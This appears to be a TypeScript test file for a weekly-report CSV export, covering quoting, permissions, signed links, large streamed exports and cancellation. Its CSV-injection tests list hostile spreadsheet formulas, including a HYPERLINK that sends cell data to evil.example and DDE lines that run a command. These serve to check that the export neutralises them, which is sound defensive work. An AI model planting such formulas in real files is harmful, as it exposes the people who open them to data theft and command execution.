// CSV export: RFC 4180 quoting of awkward text, a streamed 50k-row export equal to the database row by
// row, permissions (bearer or signed link), and a client that goes away stops the reading.
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvHeader, EXPORT_COLUMNS, exportWeeklyReportsCsv } from '../../src/services/export-weekly-reports.js';
import { expectErrorCode, expectNoGraphQLErrors, ORIGIN } from '../kit/api.js';
import { graphql } from '../kit/generated/index.js';
import { setupTestApi } from '../kit/setup-test-api.js';

const { api, team } = setupTestApi({ team: { users: 12, weeks: 2 } });

async function download(query: string, authorization?: string) {
  const response = await api.yoga.fetch(`${ORIGIN}/export/weekly-reports.csv${query}`, {
    headers: authorization ? { authorization } : {},
  });
  return { response, text: await response.text() };
}

const bearer = async (userId: number) => `Bearer ${await api.tokenFor(userId)}`;
const rowsOf = (text: string) => parse(text, { bom: true, columns: true, skip_empty_lines: false }) as Record<string, string>[];

describe('CSV quoting', () => {
  it('round-trips commas, quotes, newlines and non-ASCII text', async () => {
    const [user] = await api.db.sql.query<{ id: number }>(
      `INSERT INTO users (email, name, city, country, updated_at) VALUES ('zoe@example.com', $1, 'Kraków', 'PL', now()) RETURNING id`,
      ['Zoë "Zed", Ødegård'],
    );
    await api.db.sql.query(
      `INSERT INTO weekly_reports (user_id, week, workdays, stress_level, highlights, blockers, updated_at)
       VALUES ($1, '2026-W10', 4, 6, $2, $3, now())`,
      [user!.id, 'Line one,\nline "two"\r\nline three', 'naïve café; 東京'],
    );
    const { response, text } = await download('?from=2026-W10&to=2026-W10', await bearer(team.adminId));
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="weekly-reports_2026-W10_2026-W10.csv"');
    const rows = rowsOf(text);
    expect(Object.keys(rows[0]!)).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      name: 'Zoë "Zed", Ødegård',
      city: 'Kraków',
      highlights: 'Line one,\nline "two"\r\nline three',
      blockers: 'naïve café; 東京',
      interviews: '',
    });
    expect(text).toContain('"Zoë ""Zed"", Ødegård"');
  });
});

describe('spreadsheet formulas (CSV injection)', () => {
  // What employees may type, and what the analyst's spreadsheet must show as text, not run.
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B2&C2,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t-2+3+cmd|' /C calc'!A0",
    '\r=1+1',
    '\n+1',
    '   =1+1',
    '＝1+1',
    '-2+3',
    "'=already quoted",
  ];
  const HARMLESS = ['Closed the quarter', '2 hires, -1 attrition', 'a=b', 'mail me@home'];
  let userId: number;
  beforeAll(async () => {
    [{ id: userId }] = (await api.db.sql.query<{ id: number }>(
      `INSERT INTO users (email, name, city, country, updated_at) VALUES ('=cmd@example.com', '+Mallory', '@Lyon', 'FR', now()) RETURNING id`,
    )) as [{ id: number }];
    const texts = [...HOSTILE, ...HARMLESS];
    for (const [i, text] of texts.entries()) {
      const week = `2024-W${String(i + 10).padStart(2, '0')}`;
      await api.db.sql.query(
        `INSERT INTO weekly_reports (user_id, week, workdays, stress_level, highlights, blockers, updated_at) VALUES ($1, $2, 4, 6, $3, $3, now())`,
        [userId, week, text],
      );
    }
  });

  /** Each of the user's rows as the analyst's CSV parser reads it. */
  async function exported(sql = api.db.sql) {
    const chunks: string[] = [csvHeader()];
    for await (const chunk of exportWeeklyReportsCsv({ sql, filter: { from: '2024-W10', to: '2024-W30' } }))
      chunks.push(typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8'));
    return rowsOf(chunks.join('')).filter((row) => Number(row.user_id) === userId);
  }

  // CI runs on PostgreSQL, where the export is COPY; without `copyOut` the same client takes the other path.
  it.each([
    ['COPY (PostgreSQL)', () => api.db.sql],
    ['rows quoted by csv-stringify (PGlite)', () => ({ ...api.db.sql, copyOut: undefined })],
  ])('prefixes every text cell a spreadsheet would run with an apostrophe: %s', async (_path, client) => {
    const rows = await exported(client());
    expect(rows).toHaveLength(HOSTILE.length + HARMLESS.length);
    for (const row of rows) {
      expect(row).toMatchObject({
        name: "'+Mallory",
        email: "'=cmd@example.com",
        city: "'@Lyon",
        country: 'FR',
        workdays: '4',
        stress_level: '6',
      });
      expect(row.report_id).toMatch(/^\d+$/);
      expect(row.week).toMatch(/^2024-W\d\d$/);
    }
    const cells = rows.map((row) => row.highlights);
    expect(cells).toEqual([...HOSTILE.map((text) => `'${text}`), ...HARMLESS]);
    expect(rows.map((row) => row.blockers)).toEqual(cells);
    // Nothing left that a spreadsheet would take for a formula.
    for (const cell of cells) expect(cell).not.toMatch(/^[\s\u3000]*[=+\-@＝＋－＠]|^[\t\r\n]/);
  });

  it('does the same over the route', async () => {
    const { text } = await download('?from=2024-W10&to=2024-W30', await bearer(team.adminId));
    const rows = rowsOf(text).filter((row) => Number(row.user_id) === userId);
    expect(rows.map((row) => row.highlights)).toEqual([...HOSTILE.map((t) => `'${t}`), ...HARMLESS]);
  });
});

describe('permissions', () => {
  it('allows ANALYST and ADMIN by bearer token or signed link, and no one else', async () => {
    const analyst = team.userIds.find((_, i) => i % 17 === 5)!;
    expect((await download('', await bearer(analyst))).response.status).toBe(200);
    expect((await download('')).response.status).toBe(401);
    for (const user of [team.managerIds[0]!, team.userIds[3]!]) {
      expect((await download('', await bearer(user))).response.status).toBe(403);
    }
    expect((await download('?from=2026-W99', await bearer(analyst))).response.status).toBe(400);

    api.actAs(analyst);
    const link = await api.graphql(graphql(`query ExportLink($f: ExportFilter) { exportUrl(filter: $f) }`), {
      f: { from: '2026-W46', country: 'de' },
    });
    expectNoGraphQLErrors(link);
    const url = link.data.exportUrl;
    expect(url).toMatch(/^\/export\/weekly-reports\.csv\?from=2026-W46&country=DE&token=/);
    const viaLink = await download(url.slice('/export/weekly-reports.csv'.length));
    expect(viaLink.response.status).toBe(200);
    const [expected] = await api.db.sql.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM weekly_reports r JOIN users u ON u.id = r.user_id WHERE r.week >= '2026-W46' AND u.country = 'DE'",
    );
    expect(rowsOf(viaLink.text)).toHaveLength(expected!.n);
    // A tampered link is refused; the signed filter wins over edited parameters.
    expect((await download(`${url.slice('/export/weekly-reports.csv'.length)}x`)).response.status).toBe(401);
    const edited = await download(url.slice('/export/weekly-reports.csv'.length).replace('country=DE', 'country=FR'));
    expect(rowsOf(edited.text)).toHaveLength(expected!.n);

    api.actAs(team.userIds[3]!);
    expectErrorCode(await api.graphql('{ exportUrl }'), 'FORBIDDEN');
  });
});

describe('streaming', () => {
  it('exports 50k rows equal to the database, row by row', async () => {
    await api.db.sql.exec(`
      INSERT INTO users (email, name, city, country, updated_at)
        SELECT 'bulk' || g || '@example.com', 'Bulk ' || g, 'Porto', 'PT', now() FROM generate_series(1, 1000) g;
      INSERT INTO weekly_reports (user_id, week, workdays, stress_level, highlights, updated_at)
        SELECT u.id, '2025-W' || lpad(w::text, 2, '0'), 5, 1 + (u.id + w) % 10, 'bulk, row', now()
        FROM users u CROSS JOIN generate_series(1, 50) w WHERE u.email LIKE 'bulk%';
      INSERT INTO hr_metrics (report_id, hires) SELECT id, id % 3 FROM weekly_reports WHERE week LIKE '2025-%' AND id % 2 = 0;`);
    const { response, text } = await download('?from=2025-W01&to=2025-W52', await bearer(team.adminId));
    expect(response.status).toBe(200);
    const rows = rowsOf(text);
    const expected = await api.db.sql.query<{ id: number; week: string; email: string; stress_level: number; hires: number | null }>(
      `SELECT r.id, r.week, u.email, r.stress_level, h.hires FROM weekly_reports r JOIN users u ON u.id = r.user_id
       LEFT JOIN hr_metrics h ON h.report_id = r.id WHERE r.week BETWEEN '2025-W01' AND '2025-W52' ORDER BY r.week, r.id`,
    );
    expect(expected.length).toBeGreaterThanOrEqual(50_000);
    expect(rows).toHaveLength(expected.length);
    for (const [i, row] of rows.entries()) {
      const db = expected[i]!;
      if (
        row.report_id !== String(db.id) ||
        row.week !== db.week ||
        row.email !== db.email ||
        row.stress_level !== String(db.stress_level) ||
        row.hires !== (db.hires === null ? '' : String(db.hires))
      ) {
        expect.fail(`row ${i} differs: ${JSON.stringify(row)} vs ${JSON.stringify(db)}`);
      }
    }
  }, 180_000);

  it('stops reading when the client goes away', async () => {
    // Runs after the 50k-row test: the export is several batches long (PGlite) or a COPY far larger than
    // the socket buffers (PostgreSQL), so it is mid-way when the client cancels.
    const activeCopies = async () =>
      (
        await api.db.sql.query<{ n: number }>(
          "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND query LIKE 'COPY (%' AND state <> 'idle'",
        )
      )[0]!.n;
    const statements: string[] = [];
    const stop = api.db.onQuery((e) => statements.push(e.sql));
    const response = await api.yoga.fetch(`${ORIGIN}/export/weekly-reports.csv`, {
      headers: { authorization: await bearer(team.adminId) },
    });
    const reader = response.body!.getReader();
    await reader.read();
    await reader.read();
    if (api.db.mode === 'postgres') expect(await activeCopies()).toBe(1); // the server is held by backpressure
    await reader.cancel();
    if (api.db.mode === 'postgres') {
      // Dropping the connection makes PostgreSQL end the COPY instead of finishing it for nobody.
      await expect.poll(activeCopies, { timeout: 5_000 }).toBe(0);
    }
    await new Promise((r) => setTimeout(r, 300));
    const afterCancel = statements.filter((s) => /weekly_reports/.test(s)).length;
    await new Promise((r) => setTimeout(r, 300));
    stop();
    expect(statements.filter((s) => /weekly_reports/.test(s)).length).toBe(afterCancel);
    // 50k+ rows are 26 batches of 2000 on PGlite, one COPY on PostgreSQL.
    expect(afterCancel).toBeGreaterThan(0);
    expect(afterCancel).toBeLessThan(api.db.mode === 'postgres' ? 2 : 6);
  });
});
